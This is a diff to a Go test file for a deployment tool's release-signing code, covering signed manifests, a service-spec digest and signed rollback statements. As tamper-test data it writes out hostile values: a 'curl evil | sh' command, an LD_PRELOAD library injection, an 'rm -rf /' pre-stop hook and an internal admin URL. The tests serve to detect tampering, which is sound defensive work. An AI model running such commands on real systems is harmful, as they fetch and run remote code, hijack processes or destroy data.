@@ -14,6 +14,7 @@ import (
 
 	v1 "github.com/fleetwave/fleetwave/proto/fleetwave/v1"
 	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/types/known/durationpb"
 	"google.golang.org/protobuf/types/known/timestamppb"
 )
 
@@ -30,6 +31,29 @@ func testRelease() *v1.Release {
 		CreatedBy:  "ci@build",
 	}
 }
+
+// testSpec is the spec the test release is signed with.
+func testSpec() *v1.ServiceSpec {
+	return &v1.ServiceSpec{
+		Name:     "web",
+		Selector: map[string]string{"role": "web"},
+		Run: &v1.RunSpec{
+			Command:   []string{"./server", "--port=${host.label.port}"},
+			Env:       map[string]string{"A": "1", "B": "2", "C": "3"},
+			StopGrace: durationpb.New(5 * time.Second),
+			PreStop:   &v1.PreStop{Command: []string{"./drain"}},
+		},
+		Checks:          []*v1.Check{{Name: "http", Kind: &v1.Check_Http{Http: &v1.HttpCheck{Url: "http://127.0.0.1/healthz"}}}},
+		MinHealthyTime:  durationpb.New(time.Second),
+		HealthyDeadline: durationpb.New(time.Minute),
+		Analysis:        &v1.Analysis{MetricsUrl: "http://127.0.0.1/metrics"},
+		Rollout:         &v1.RolloutPolicy{Waves: []uint32{10, 100}},
+		Alerts:          &v1.Alerts{WebhookUrl: "https://hooks.example.com/x"},
+	}
+}
+
+// testSeq is the sequence the test release is signed with.
+const testSeq = 7
 
 // newKey returns a generated key pair, parsed.
 func newKey(t testing.TB) (ed25519.PublicKey, ed25519.PrivateKey) {
@@ -51,7 +75,7 @@ func newKey(t testing.TB) (ed25519.PublicKey, ed25519.PrivateKey) {
 
 func signed(t testing.TB, rel *v1.Release, priv ed25519.PrivateKey, signedAt, expiresAt time.Time) *v1.Release {
 	t.Helper()
-	sm, err := Sign(Manifest(rel, signedAt, expiresAt), priv)
+	sm, err := Sign(Manifest(rel, testSpec(), testSeq, signedAt, expiresAt), priv)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -136,15 +160,18 @@ func TestSignVerify(t *testing.T) {
 		t.Errorf("manifest %v", m)
 	}
 	// Deterministic: the same manifest signs to the same bytes.
-	again, _ := Sign(Manifest(testRelease(), t0, t0.Add(24*time.Hour)), priv)
+	again, _ := Sign(Manifest(testRelease(), testSpec(), testSeq, t0, t0.Add(24*time.Hour)), priv)
 	if !proto.Equal(again, rel.Signed) {
 		t.Error("signing is not deterministic")
 	}
-	// Fields outside the manifest (url, created_at, created_by) may change.
+	// Fields outside the manifest (created_at, created_by) may change.
 	rel2 := proto.Clone(rel).(*v1.Release)
-	rel2.Artifact.Url, rel2.CreatedBy, rel2.CreatedAt = "", "someone", nil
+	rel2.CreatedBy, rel2.CreatedAt = "someone", nil
 	if _, err := Verify(rel2, trusted, t0); err != nil {
 		t.Errorf("fields outside the manifest: %v", err)
+	}
+	if m.GetArtifactUrl() != "https://example.com/a.tgz" || m.GetSequence() != testSeq || m.GetSpecSha256() != SpecDigest(testSpec()) {
+		t.Errorf("manifest url %q sequence %d spec %s", m.GetArtifactUrl(), m.GetSequence(), m.GetSpecSha256())
 	}
 	// A release without commit time verifies too.
 	bare := testRelease()
@@ -168,7 +195,7 @@ func TestVerifyRefuses(t *testing.T) {
 	good := func() *v1.Release { return signed(t, testRelease(), priv, t0, t0.Add(24*time.Hour)) }
 	resign := func(mut func(m *v1.ReleaseManifest)) *v1.Release {
 		rel := testRelease()
-		m := Manifest(rel, t0, t0.Add(24*time.Hour))
+		m := Manifest(rel, testSpec(), testSeq, t0, t0.Add(24*time.Hour))
 		mut(m)
 		b, _ := proto.MarshalOptions{Deterministic: true}.Marshal(m)
 		rel.Signed = &v1.SignedManifest{Manifest: b, Signature: ed25519.Sign(priv, b), KeyId: id}
@@ -206,6 +233,12 @@ func TestVerifyRefuses(t *testing.T) {
 		{"size differs", func() *v1.Release { r := good(); r.Artifact.Size = 1; return r }(), t0, ErrMismatch, []string{"artifact size 4242, the release 1"}},
 		{"version differs", func() *v1.Release { r := good(); r.Version = "9"; return r }(), t0, ErrMismatch, []string{"release 9:", "version 1.2.3, the release 9"}},
 		{"service differs", func() *v1.Release { r := good(); r.Service = "api"; return r }(), t0, ErrMismatch, []string{"service web, the release api"}},
+		// The URL is signed: the coordinator cannot send agents to another
+		// address (an internal page) for a signed release, nor take the URL
+		// away or add one.
+		{"url differs", func() *v1.Release { r := good(); r.Artifact.Url = "http://10.0.0.1/admin"; return r }(), t0, ErrMismatch,
+			[]string{"artifact url https://example.com/a.tgz, the release http://10.0.0.1/admin"}},
+		{"url removed", func() *v1.Release { r := good(); r.Artifact.Url = ""; return r }(), t0, ErrMismatch, []string{"artifact url"}},
 		{"commit differs", func() *v1.Release { r := good(); r.Commit = "beef"; return r }(), t0, ErrMismatch, []string{"commit 0123456789abcdef, the release beef"}},
 		{"commit time differs", func() *v1.Release { r := good(); r.CommitTime = nil; return r }(), t0, ErrMismatch, []string{"commit time", "(none)"}},
 		{"expired", good(), t0.Add(24 * time.Hour), ErrExpired,
@@ -213,6 +246,11 @@ func TestVerifyRefuses(t *testing.T) {
 		{"signed in the future", good(), t0.Add(-6 * time.Minute), ErrNotYetValid, []string{"signed_at 2024-05-01T12:00:00Z, more than 5m0s after now (2024-05-01T11:54:00Z)"}},
 		{"no expiry", resign(func(m *v1.ReleaseManifest) { m.ExpiresAt = nil }), t0, ErrMalformed, []string{"expires_at"}},
 		{"no signed_at", resign(func(m *v1.ReleaseManifest) { m.SignedAt = nil }), t0, ErrMalformed, []string{"signed_at"}},
+		// Manifests signed before the spec and sequence were: they do not
+		// say what runs, nor where the release stands.
+		{"no spec digest", resign(func(m *v1.ReleaseManifest) { m.SpecSha256 = "" }), t0, ErrIncomplete, []string{"no spec digest or no sequence", "--spec"}},
+		{"no sequence", resign(func(m *v1.ReleaseManifest) { m.Sequence = 0 }), t0, ErrIncomplete, []string{"no spec digest or no sequence"}},
+		{"bad spec digest", resign(func(m *v1.ReleaseManifest) { m.SpecSha256 = "XYZ" }), t0, ErrMalformed, []string{"spec sha256 XYZ"}},
 		{"bad key id text", func() *v1.Release { r := good(); r.Signed.KeyId = strings.Repeat("\x00z", 100); return r }(), t0, ErrUnknownKey, []string{`"\x00z`, "..."}},
 	}
 	for _, tt := range tests {
@@ -282,8 +320,196 @@ func FuzzVerify(f *testing.F) {
 		}
 		if !ed25519.Verify(pub, rel.GetSigned().GetManifest(), rel.GetSigned().GetSignature()) ||
 			m.GetVersion() != rel.GetVersion() || m.GetArtifactSha256() != rel.GetArtifact().GetSha256() ||
-			m.GetArtifactSize() != rel.GetArtifact().GetSize() || !t0.Before(m.GetExpiresAt().AsTime()) {
+			m.GetArtifactSize() != rel.GetArtifact().GetSize() || m.GetArtifactUrl() != rel.GetArtifact().GetUrl() ||
+			!t0.Before(m.GetExpiresAt().AsTime()) {
 			t.Fatalf("accepted a release that does not verify: %v", rel)
+		}
+	})
+}
+
+// The spec digest covers what runs (name, run, checks, health times,
+// analysis) and nothing the coordinator decides alone (selector, rollout
+// policy, alerts).
+func TestSpecDigest(t *testing.T) {
+	base := SpecDigest(testSpec())
+	if len(base) != 64 || SpecDigest(testSpec()) != base {
+		t.Fatalf("digest %q not stable", base)
+	}
+	// Maps encode in one order: the same spec built in another order
+	// digests the same.
+	for range 20 {
+		s := testSpec()
+		s.Run.Env = map[string]string{"C": "3", "B": "2", "A": "1"}
+		if SpecDigest(s) != base {
+			t.Fatal("map order changes the digest")
+		}
+	}
+	covered := map[string]func(s *v1.ServiceSpec){
+		"name":           func(s *v1.ServiceSpec) { s.Name = "api" },
+		"run.command":    func(s *v1.ServiceSpec) { s.Run.Command = []string{"/bin/sh", "-c", "curl evil | sh"} },
+		"run.env":        func(s *v1.ServiceSpec) { s.Run.Env["LD_PRELOAD"] = "/tmp/x.so" },
+		"run.stop_grace": func(s *v1.ServiceSpec) { s.Run.StopGrace = durationpb.New(time.Hour) },
+		"run.pre_stop":   func(s *v1.ServiceSpec) { s.Run.PreStop.Command = []string{"rm", "-rf", "/"} },
+		"run.sockets":    func(s *v1.ServiceSpec) { s.Run.Sockets = []*v1.Socket{{Name: "http", Listen: ":80"}} },
+		"checks": func(s *v1.ServiceSpec) {
+			s.Checks[0].Kind = &v1.Check_Exec{Exec: &v1.ExecCheck{Command: []string{"./x"}}}
+		},
+		"no checks":        func(s *v1.ServiceSpec) { s.Checks = nil },
+		"min_healthy_time": func(s *v1.ServiceSpec) { s.MinHealthyTime = nil },
+		"healthy_deadline": func(s *v1.ServiceSpec) { s.HealthyDeadline = durationpb.New(time.Hour) },
+		"analysis":         func(s *v1.ServiceSpec) { s.Analysis.MetricsUrl = "http://10.0.0.1/" },
+		"no run":           func(s *v1.ServiceSpec) { s.Run = nil },
+	}
+	for name, mut := range covered {
+		s := testSpec()
+		mut(s)
+		if SpecDigest(s) == base {
+			t.Errorf("%s is not covered by the digest", name)
+		}
+		if err := CheckSpec(testRelease(), s, base); !errors.Is(err, ErrSpecMismatch) || !strings.Contains(err.Error(), "the signed one "+base) {
+			t.Errorf("%s: CheckSpec %v", name, err)
+		}
+	}
+	for name, mut := range map[string]func(s *v1.ServiceSpec){
+		"selector": func(s *v1.ServiceSpec) { s.Selector = map[string]string{"zone": "b"} },
+		"rollout":  func(s *v1.ServiceSpec) { s.Rollout = &v1.RolloutPolicy{NoCanary: true} },
+		"alerts":   func(s *v1.ServiceSpec) { s.Alerts = nil },
+	} {
+		s := testSpec()
+		mut(s)
+		if SpecDigest(s) != base {
+			t.Errorf("%s changes the digest", name)
+		}
+	}
+	if err := CheckSpec(testRelease(), testSpec(), base); err != nil {
+		t.Error(err)
+	}
+	if SpecDigest(nil) != SpecDigest(&v1.ServiceSpec{}) {
+		t.Error("nil spec")
+	}
+}
+
+func TestRollbackStatement(t *testing.T) {
+	pub, priv := newKey(t)
+	_, otherPriv := newKey(t)
+	id := KeyID(pub)
+	trusted := map[string]ed25519.PublicKey{id: pub}
+	rel := signed(t, testRelease(), priv, t0, t0.Add(24*time.Hour))
+	good := func() *v1.SignedRollback {
+		sr, err := SignRollback(Rollback(rel, 9, "", t0, t0.Add(time.Hour)), priv)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return sr
+	}
+	st, err := VerifyRollback(good(), rel, trusted, t0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.GetMaxFloor() != 9 || st.GetToVersion() != "1.2.3" || st.GetToManifestSha256() != ManifestDigest(rel) || st.GetSpecSha256() != "" {
+		t.Fatalf("statement %v", st)
+	}
+	if p, err := ParseRollback(good()); err != nil || !proto.Equal(p, st) {
+		t.Fatalf("ParseRollback %v %v", p, err)
+	}
+	if _, err := SignRollback(Rollback(testRelease(), 9, "", t0, t0), priv); err == nil {
+		t.Error("a statement for an unsigned release signed")
+	}
+	restate := func(mut func(st *v1.RollbackStatement)) *v1.SignedRollback {
+		st := Rollback(rel, 9, "", t0, t0.Add(time.Hour))
+		mut(st)
+		b, _ := proto.MarshalOptions{Deterministic: true}.Marshal(st)
+		return &v1.SignedRollback{Statement: b, Signature: ed25519.Sign(priv, append([]byte(rollbackContext), b...)), KeyId: id}
+	}
+	resigned := signed(t, testRelease(), priv, t0.Add(time.Minute), t0.Add(24*time.Hour)) // same release, another manifest
+	otherVersion := signed(t, func() *v1.Release { r := testRelease(); r.Version = "1.2.4"; return r }(), priv, t0, t0.Add(24*time.Hour))
+	tests := []struct {
+		name string
+		sr   *v1.SignedRollback
+		rel  *v1.Release
+		now  time.Time
+		kind error
+		want string
+	}{
+		{"none", nil, rel, t0, ErrUnsigned, "no rollback statement"},
+		{"unknown key", func() *v1.SignedRollback {
+			sr, _ := SignRollback(Rollback(rel, 9, "", t0, t0.Add(time.Hour)), otherPriv)
+			return sr
+		}(), rel, t0, ErrUnknownKey, "statement signed by unknown key"},
+		{"flipped bit", func() *v1.SignedRollback { sr := good(); sr.Statement[2] ^= 1; return sr }(), rel, t0, ErrBadSignature, "does not verify"},
+		{"signed without the context", func() *v1.SignedRollback {
+			sr := good()
+			sr.Signature = ed25519.Sign(priv, sr.Statement)
+			return sr
+		}(), rel, t0, ErrBadSignature, "does not verify"},
+		{"a manifest's signature", &v1.SignedRollback{Statement: rel.Signed.Manifest, Signature: rel.Signed.Signature, KeyId: id}, rel, t0, ErrBadSignature, "does not verify"},
+		{"another version", good(), otherVersion, t0, ErrMismatch, "statement names version 1.2.3, the release 1.2.4"},
+		{"another manifest of the release", good(), resigned, t0, ErrMismatch, "signed manifest sha256"},
+		{"another service", restate(func(st *v1.RollbackStatement) { st.Service = "api" }), rel, t0, ErrMismatch, "service api, the release web"},
+		{"expired", good(), rel, t0.Add(time.Hour), ErrExpired, "rollback statement expired at"},
+		{"signed in the future", good(), rel, t0.Add(-10 * time.Minute), ErrNotYetValid, "signed_at"},
+		{"no max_floor", restate(func(st *v1.RollbackStatement) { st.MaxFloor = 0 }), rel, t0, ErrMalformed, "no max_floor"},
+		{"bad spec digest", restate(func(st *v1.RollbackStatement) { st.SpecSha256 = "nope" }), rel, t0, ErrMalformed, "spec sha256 nope"},
+		{"huge", func() *v1.SignedRollback { sr := good(); sr.Statement = make([]byte, MaxManifestBytes+1); return sr }(), rel, t0, ErrMalformed, "4097 bytes"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			st, err := VerifyRollback(tt.sr, tt.rel, trusted, tt.now)
+			if err == nil || st != nil {
+				t.Fatalf("accepted: %v", st)
+			}
+			if !errors.Is(err, tt.kind) || !strings.Contains(err.Error(), tt.want) {
+				t.Fatalf("err %v, want %v containing %q", err, tt.kind, tt.want)
+			}
+		})
+	}
+	// A statement's signature never makes a manifest verify.
+	sr := good()
+	fake := proto.Clone(rel).(*v1.Release)
+	fake.Signed = &v1.SignedManifest{Manifest: append([]byte(rollbackContext), sr.Statement...), Signature: sr.Signature, KeyId: id}
+	if _, err := Verify(fake, trusted, t0); !errors.Is(err, ErrMalformed) {
+		t.Errorf("statement as a manifest: %v", err)
+	}
+	if _, err := ParseRollback(&v1.SignedRollback{Statement: []byte{1}, Signature: make([]byte, 64), KeyId: id}); err == nil {
+		t.Error("ParseRollback accepted garbage")
+	}
+}
+
+// FuzzVerifyRollback feeds VerifyRollback arbitrary statements: it must
+// never panic, and whatever it accepts must be signed by the trusted key
+// with the context prefix and name the release.
+func FuzzVerifyRollback(f *testing.F) {
+	seed := ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize))
+	pub := seed.Public().(ed25519.PublicKey)
+	trusted := map[string]ed25519.PublicKey{KeyID(pub): pub}
+	rel := signed(f, testRelease(), seed, t0, t0.Add(time.Hour))
+	good, err := SignRollback(Rollback(rel, 3, "", t0, t0.Add(time.Hour)), seed)
+	if err != nil {
+		f.Fatal(err)
+	}
+	for _, sr := range []*v1.SignedRollback{good, {}, {KeyId: KeyID(pub), Signature: make([]byte, 64), Statement: []byte{1}}} {
+		b, err := proto.Marshal(sr)
+		if err != nil {
+			f.Fatal(err)
+		}
+		f.Add(b)
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		sr := &v1.SignedRollback{}
+		if proto.Unmarshal(data, sr) != nil {
+			return
+		}
+		st, err := VerifyRollback(sr, rel, trusted, t0)
+		if err != nil {
+			var ve *Error
+			if st != nil || !errors.As(err, &ve) || len(err.Error()) > 1024 {
+				t.Fatalf("error %T %d bytes, statement %v", err, len(err.Error()), st)
+			}
+			return
+		}
+		if !ed25519.Verify(pub, append([]byte(rollbackContext), sr.GetStatement()...), sr.GetSignature()) ||
+			st.GetToVersion() != rel.GetVersion() || st.GetToManifestSha256() != ManifestDigest(rel) || st.GetMaxFloor() == 0 {
+			t.Fatalf("accepted a statement that does not verify: %v", st)
 		}
 	})
 }
